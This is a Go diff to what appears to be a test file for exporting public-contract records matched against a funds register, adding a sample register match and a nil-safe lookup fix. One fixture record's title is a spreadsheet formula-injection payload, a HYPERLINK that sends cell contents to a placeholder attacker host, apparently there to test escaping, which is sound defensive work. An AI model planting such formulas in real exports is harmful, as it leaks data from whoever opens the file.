@@ -35,6 +35,14 @@ func sampleRecords() []Record {
 			Documents:  []Document{{URL: "https://www.septemvri.org/doc.pdf", Text: "Договор"}},
 			Warnings:   []string{"period: 9 months stated, the dates span 12"},
 			FirstSeen:  "2026-11-21T10:00:00Z", Updated: "2026-11-21T10:00:00Z",
+			RegisterMatch: RegisterMatched,
+			Register: &Register{RegisterContract: RegisterContract{Number: "13-13-24-C01", Name: "=Механизми", Beneficiary: "ОБЩИНА СЕПТЕМВРИ",
+				BeneficiaryEIK: "000351713", Status: "Приключен", Start: "2013-11-13", End: "2014-12-31", TotalEUR: fptr(40816.04),
+				PaidEUR: fptr(39000.5), Places: []string{"България, Пазарджик (BG423), Септември, гр.Септември", "Септември"},
+				Programme: "ОПАК", FileDate: "2026-01-05"},
+				MatchedNumber: "13-13-24", Match: "registration_number",
+				Disagreements: []Disagreement{{Field: "end", Page: "2014-11-13", Register: "2014-12-31"}, {Field: "title", Page: "a", Register: "b"}}},
+			RegisterUnmatched: []string{"BG16RFOP001-1.001-0099"},
 		},
 		{
 			ID: "3f2a9c", Title: `=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
@@ -112,7 +120,11 @@ func lookup(obj map[string]any, path string) any {
 		return out
 	}
 	if nested {
-		return lookup(obj[head].(map[string]any), rest)
+		inner, ok := obj[head].(map[string]any)
+		if !ok {
+			return nil // a null object: every field of it is empty
+		}
+		return lookup(inner, rest)
 	}
 	return obj[path]
 }
